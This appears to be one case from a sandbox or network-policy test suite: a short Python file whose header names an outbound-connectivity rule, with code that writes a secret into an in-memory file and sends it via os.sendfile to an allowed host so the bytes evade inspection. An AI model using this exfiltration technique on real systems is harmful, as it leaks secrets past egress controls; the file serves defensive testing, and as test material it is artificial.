# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: what is no TLS goes to an allowed name's address from a file, by a call that shows no bytes
# proof: word
# needs: resolver
import os

from attack import SECRET, at_allowed, attempt


def say(out):
    file = os.memfd_create("x")
    os.write(file, SECRET.encode())
    os.sendfile(out.fileno(), file, 0, len(SECRET))


@attempt
def send():
    return at_allowed(say)
